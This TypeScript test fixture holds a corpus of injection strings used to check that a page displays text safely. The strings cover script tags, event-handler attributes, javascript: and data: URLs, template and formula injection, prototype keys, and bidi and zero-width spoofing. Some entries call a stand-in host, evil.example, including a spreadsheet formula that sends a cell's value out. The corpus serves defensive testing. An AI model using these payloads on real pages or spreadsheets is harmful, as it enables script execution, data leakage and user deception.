/**
 * What a text could be taken for by a page that shows it carelessly. Whatever of it runs sets `ran` of the window or asks
 * `evil.example`.
 */
export const corpus = {
  script: '<script>window.ran="script"</script>',
  'the end of a script': '</script></style></textarea></title><script>window.ran="end"</script>',
  image: '<img src=x onerror=window.ran="image">',
  'image from elsewhere': '<img src="https://evil.example/pixel.gif">',
  svg: '<svg onload=window.ran="svg"><animate onbegin=window.ran="animate" attributeName=x dur=1s>',
  frame: '<iframe srcdoc="<script>parent.ran=\'frame\'</script>"></iframe>',
  attribute: '" autofocus onfocus=window.ran="focus" onmouseover=window.ran="mouse" x="',
  'javascript address': 'javascript:window.ran="address"',
  'data address': 'data:text/html,<script>opener.ran="data"</script>',
  'address elsewhere': 'https://evil.example/?from=here',
  'address without a scheme': '//evil.example/\\evil.example',
  'markdown link': '[click me](javascript:window.ran="markdown")',
  'markdown image': '![see](https://evil.example/see.png)',
  template: '{{constructor.constructor("window.ran=1")()}}\u0024{window.ran=1}<%= window.ran=1 %>#{window.ran=1}',
  'style sheet': '<style>*{background:url(https://evil.example/style)}</style>',
  formula: '=HYPERLINK("https://evil.example/?"&A1,"sum")',
  prototype: '__proto__',
  constructor: 'constructor',
  'right to left': 'invoice\u202Efdp.exe\u202C \u2066hidden\u2069',
  'no width': 'pay\u200Bpal\u200D\uFEFF.example',
  terminal: '\u001B[31mred\u001B[0m\u001B]8;;https://evil.example\u0007link\u001B]8;;\u0007',
  'many accents': `a${'\u0301'.repeat(60)}`,
  'long word': 'W'.repeat(10_000),
} as const

/** Those with at most so many characters. */
const ofAtMost = (length: number): readonly string[] => Object.values(corpus).filter((text) => text.length <= length)

/** As many of them as have room in one text. */
export function together(length: number, separator = ' '): string {
  const texts: string[] = []
  for (const text of Object.values(corpus)) {
    if ([...texts, text].join(separator).length <= length) texts.push(text)
  }
  return texts.join(separator)
}

/** There is a message for each of these. Queues take no control characters: those come from functions. */
export const BODIES: readonly string[] = Object.values(corpus).filter((text) => text !== corpus.terminal)
export const NAMES: readonly string[] = ofAtMost(100)
/** Of people and tokens, which have no control characters; neither have keys of objects. */
export const PEOPLE: readonly string[] = NAMES.filter((text) => text !== corpus.terminal)
export const NAME = together(100)
export const DESCRIPTION = together(1_000)
export const REASON = together(500)
/** What one message has in its body; the long word comes last, since pages show the beginning of a text. */
export const BODY = BODIES.join('\n')
